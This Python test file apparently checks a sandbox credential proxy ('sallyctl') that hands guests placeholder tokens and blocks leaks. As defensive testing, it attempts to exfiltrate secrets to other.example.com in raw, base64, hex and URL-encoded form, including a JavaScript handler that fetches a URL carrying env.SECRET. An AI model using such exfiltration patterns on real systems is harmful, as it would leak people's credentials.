#!/usr/bin/python3
"""Credentials that a real guest uses and never sees, by the commands of docs/credentials.md."""

import base64
import json
import os
import pathlib
import shlex
import signal
import time
import unittest
import urllib.parse

from article_test import ADD_HEADER
from world import World, wait_for

DOCUMENT = pathlib.Path(__file__).resolve().parents[2] / "docs/credentials.md"
PASSPHRASE = "correct horse battery staple"
VALUE = "s3cret-Value+of/the=person-0123456789"
THIRD = "third-Value-that-handlers-may-read-0123"
PRINTED = "what-a-Command-prints-0123456789"  # lies in the database, as a part of the command
FOURTH = "fourth-Value-in-its-place-9876543210-abc"
AWS = "AKIDEXAMPLE:wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"
SECOND = "another-Value-that-nobody-may-see-98765"

world = guest = None


def documented(*words):
    """The first command line of the document that begins with these words."""
    for line in DOCUMENT.read_text(encoding="utf-8").splitlines():
        command = shlex.split(line.strip(), comments=True) if line.startswith("    ") else []
        if command[: len(words)] == list(words):
            return command[1:]
    raise AssertionError(f"{DOCUMENT.name} does not show {' '.join(words)}")


def setUpModule():
    global world, guest
    world = World()
    guest = world.sandbox(defaultAction="allow")
    world.ctl(*documented("sallyctl", "credentials", "unlock"), input=PASSPHRASE + "\n")
    world.ctl(*documented("sallyctl", "credentials", "add", "github"), input=VALUE + "\n")
    world.client.call(
        "credentials.add",
        credential={"name": "shop", "hosts": ["web.example.com"], "use": "placeholder", "variable": "SHOP_KEY", "inBodies": True},
        value=SECOND,
    )


def tearDownModule():
    world.close()


def arrived():
    """The credential headers that the servers outside were sent, oldest first."""
    return (world.dir / "nginx-credentials.log").read_text().splitlines()


class Credentials(unittest.TestCase):
    def curl(self, *arguments):
        done = guest.run("curl", "-sS", "-m", "60", "-w", "\\n%{http_code}", *arguments)
        body, _, status = done.stdout.rpartition("\n")
        return body, status, done.stderr

    def placeholder(self, variable):
        return guest.run("printenv", variable).stdout.strip()

    def test_the_value_is_put_in_and_taken_out_of_the_answer(self):
        token = self.placeholder("GITHUB_TOKEN")
        self.assertRegex(token, r"\Asp_[A-Za-z0-9_]+\Z")
        self.assertEqual(len(token), len(VALUE))
        body, status, errors = self.curl("https://api.github.com/credential")
        self.assertEqual(status, "200", errors)
        self.assertEqual(arrived()[-1], f"authorization=token {VALUE} mine=-")
        self.assertEqual(body, f"authorization=token {token} mine=\n")
        row = next(r for r in world.rows() if r["path"] == "/credential")
        self.assertEqual(row["credentials"], "github")
        self.assertNotIn(VALUE, json.dumps(world.client.call("log.get", row=row["id"])))
        # The documented check, which sends nothing.
        said = world.ctl(*documented("sallyctl", "credentials", "test")).stdout
        self.assertIn("github", said)
        self.assertNotIn(VALUE, world.ctl(*documented("sallyctl", "credentials", "list")).stdout)

    def test_a_placeholder_is_worth_its_value_at_its_host_alone(self):
        key = self.placeholder("SHOP_KEY")
        body, status, _ = self.curl("-H", f"X-Mine: Key {key}", "https://web.example.com/credential")
        self.assertEqual((body, status), (f"authorization= mine=Key {key}\n", "200"))
        self.assertEqual(arrived()[-1], f"authorization=- mine=Key {SECOND}")
        # Nothing is put in where the guest put no placeholder.
        self.curl("https://web.example.com/credential")
        self.assertEqual(arrived()[-1], "authorization=- mine=-")

    def test_nothing_of_it_leaves_for_another_host(self):
        token = self.placeholder("GITHUB_TOKEN")
        before = len(arrived())
        alarms = 0
        for what in (token, VALUE):
            raw = what.encode()
            for form in (what, urllib.parse.quote(what, safe=""), base64.b64encode(raw).decode(), raw.hex()):
                body, status, errors = self.curl("-H", f"X-Mine: {form}", "https://other.example.com/credential")
                alarms += 1
                with self.subTest(form=form):
                    self.assertEqual((status, json.loads(body or "{}").get("step")), ("403", "credential"), errors)
                # A place that reads the whole body before it answers.
                body, status, errors = self.curl("--data-binary", f"<<{form}>>", "https://other.example.com/slow")
                alarms += 1
                with self.subTest(body=form):
                    self.assertEqual((status, json.loads(body or "{}").get("step")), ("403", "credential"), errors)
                body, status, errors = self.curl(f"https://other.example.com/credential?q={urllib.parse.quote(form, safe='%')}")
                alarms += 1
                with self.subTest(query=form):
                    self.assertEqual((status, json.loads(body or "{}").get("step")), ("403", "credential"), errors)
        self.assertEqual(len(arrived()), before)
        told = wait_for("every alarm is told", lambda: (a := [p for m, p in world.client.events if m == "credential.alarm" and p["credential"] == "github"]) and len(a) >= alarms and a, 30)
        row = world.client.call("log.get", row=told[-1]["row"])["row"]
        self.assertEqual((row["state"], row["step"], row["host"], row["credentials"]), ("denied", "credential", "other.example.com", "github"))
        self.assertNotIn(token, row["path"])

    def test_a_request_is_signed_anew_for_aws(self):
        words = documented("sallyctl", "credentials", "add", "aws")
        words[words.index("--host") + 1] = "web.example.com"
        world.ctl(*words, input=AWS + "\n")
        key = self.placeholder("AWS_ACCESS_KEY_ID")
        self.assertEqual(self.placeholder("AWS_SECRET_ACCESS_KEY"), key)
        self.assertRegex(key, r"\Asp_")
        sign = ("--aws-sigv4", "aws:amz:eu-central-1:sts", "-u", f"{key}:{key}")
        status = self.curl(*sign, "https://web.example.com/credential")[1]
        self.assertEqual(status, "200")
        self.assertRegex(arrived()[-1], r"\Aauthorization=AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/\d{8}/eu-central-1/sts/aws4_request, ")
        self.assertEqual(self.curl(*sign, "https://other.example.com/credential")[1], "403")
        world.ctl("credentials", "rm", "aws")

    def test_a_login_shell_has_the_placeholder(self):
        token = self.placeholder("GITHUB_TOKEN")
        for shell in ("sh", "bash"):
            self.assertEqual(guest.run(shell, "-lc", "printenv GITHUB_TOKEN").stdout.strip(), token)

    def headers(self, host="github.com"):
        """What the article's handler sent, as the guest is told, and as it arrived."""
        log = world.dir / "nginx-headers.log"
        before = log.read_text().count("\n") if log.exists() else 0
        body, status, errors = self.curl(f"https://{host}/headers")
        self.assertEqual(status, "200", errors + body)
        wait_for("the server's log", lambda: log.exists() and log.read_text().count("\n") > before)
        return body.split()[0].removeprefix("x-auth-token="), log.read_text().splitlines()[-1]

    def test_a_handler_reads_what_it_was_given_and_the_guest_does_not(self):
        world.ctl(*documented("sallyctl", "credentials", "add", "secret"), input=THIRD + "\n")
        self.addCleanup(world.client.call, "module.set", sandbox=guest.id, source="")
        self.assertTrue(world.client.call("module.set", sandbox=guest.id, source=ADD_HEADER)["inForce"])
        # Off unless a person says so.
        self.assertEqual(self.headers(), ("undefined", "github.com undefined"))
        world.ctl(*documented("sallyctl", "credentials", "handlers", "secret"))
        told, sent = self.headers()
        self.assertEqual(sent, f"github.com {THIRD}")
        self.assertRegex(told, r"\Asp_[A-Za-z0-9_]+\Z")
        # Each change is seen by the next request.
        world.ctl("credentials", "set", "secret", input=FOURTH + "\n")
        self.assertEqual(self.headers()[1], f"github.com {FOURTH}")
        world.ctl("credentials", "lock")
        self.assertEqual(self.headers()[1], "github.com undefined")
        world.ctl(*documented("sallyctl", "credentials", "unlock"), input=PASSPHRASE + "\n")
        self.assertEqual(self.headers()[1], f"github.com {FOURTH}")
        # It may know it, and say it to nobody else.
        source = """export default { async outbound(request, env) {
          console.log("it is", env.SECRET, btoa(env.SECRET));
          try { await fetch("https://other.example.com/credential?q=" + env.SECRET); } catch (error) { console.log(error.message); }
          return new Response("it is " + env.SECRET);
        } }"""
        self.assertTrue(world.client.call("module.set", sandbox=guest.id, source=source)["inForce"])
        before = len(arrived())
        body, status, _ = self.curl("https://web.example.com/")
        self.assertEqual(status, "200")
        self.assertRegex(body, r"\Ait is sp_[A-Za-z0-9_]+\Z")
        self.assertEqual(len(arrived()), before)
        lines = wait_for("the lines are stored", lambda: len(found := world.client.call("handlers.log", sandbox=guest.id)["lines"]) >= 2 and found)
        self.assertNotIn(FOURTH, json.dumps(lines))
        self.assertNotIn(base64.b64encode(FOURTH.encode()).decode()[:40], json.dumps(lines))
        alarm = wait_for("the alarm", lambda: [p for m, p in world.client.events if m == "credential.alarm" and p["credential"] == "secret"])[-1]
        row = wait_for("its row", lambda: (r := world.client.call("log.get", row=alarm["row"])["row"])["state"] == "denied" and r)
        self.assertEqual((row["step"], row["host"]), ("credential", "other.example.com"))
        self.assertIn("by the handler", row["reason"])
        tried = world.client.call("handlers.try", sandbox=guest.id, request={"method": "GET", "url": "https://web.example.com/"})
        self.assertNotIn(FOURTH, json.dumps(tried))
        # Who is removed, and made anew, has to be granted anew.
        world.ctl("credentials", "rm", "secret")
        self.assertEqual(world.client.call("settings.get", name="handler.credentials")["value"], [])

    def test_a_handler_reads_what_a_command_prints(self):
        world.ctl("credentials", "add", "secret", "--host", "github.com", "--placeholder", "--command", f"printf {PRINTED}", "--cache", "1s")
        self.addCleanup(world.ctl, "credentials", "rm", "secret")
        world.ctl("credentials", "handlers", "secret", "on", "--sandbox", guest.name)
        self.addCleanup(world.client.call, "module.set", sandbox=guest.id, source="")
        self.assertTrue(world.client.call("module.set", sandbox=guest.id, source=ADD_HEADER)["inForce"])
        for _ in range(2):  # it is run by the first request, and again where it is not fresh any more
            self.assertEqual(self.headers()[1], f"github.com {PRINTED}")
            time.sleep(1.1)

    def test_a_sandbox_that_may_not_use_it_gets_and_sends_nothing(self):
        token = self.placeholder("GITHUB_TOKEN")
        github = next(c for c in world.client.call("credentials.list")["credentials"] if c["name"] == "github")
        world.client.call("credentials.update", credential={**github, "sandboxes": []})
        self.addCleanup(lambda: world.client.call("credentials.update", credential=github))
        self.assertEqual(self.placeholder("GITHUB_TOKEN"), "")
        self.assertEqual(self.curl("https://api.github.com/credential")[:2], ("authorization= mine=\n", "200"))
        self.assertEqual(self.curl("-H", f"X-Mine: {token}", "https://api.github.com/credential")[1], "403")

    def test_z_a_new_engine_needs_the_passphrase_and_keeps_the_placeholder(self):
        token = self.placeholder("GITHUB_TOKEN")
        os.kill(world.engine_pid(), signal.SIGKILL)
        world.engine.wait(60)
        world.start_engine()
        wait_for("the new engine has the sandbox", lambda: guest.info["state"] == "running")
        wait_for("the vault is found", lambda: not world.client.call("credentials.list")["vault"]["isNew"])
        body, status, _ = self.curl("https://api.github.com/credential")
        self.assertEqual(status, "403")
        self.assertIn("locked", json.loads(body)["reason"])
        world.ctl(*documented("sallyctl", "credentials", "unlock"), input=PASSPHRASE + "\n")
        self.assertEqual(self.placeholder("GITHUB_TOKEN"), token)
        self.assertEqual(self.curl("https://api.github.com/credential")[:2], (f"authorization=token {token} mine=\n", "200"))

    def test_zz_no_value_lies_in_a_file_of_ours(self):
        files = [p for p in (world.user_home, world.runtime) for p in p.rglob("*") if p.is_file() and not p.is_symlink() and p.suffix not in (".ext4", ".qcow2", ".img")]
        files.append(world.dir / "engine.log")
        self.assertTrue(any(p.name == "vault.sealed" for p in files), files)
        self.assertTrue(any(p.suffix in (".db", ".sqlite", ".sqlite3") for p in files), files)
        for path in files:
            content = path.read_bytes()
            for value in (VALUE, SECOND, THIRD, FOURTH, AWS.split(":")[1], PASSPHRASE):
                for form in (value.encode(), base64.b64encode(value.encode()), value.encode().hex().encode()):
                    self.assertNotIn(form, content, path)


if __name__ == "__main__":
    unittest.main(verbosity=2)
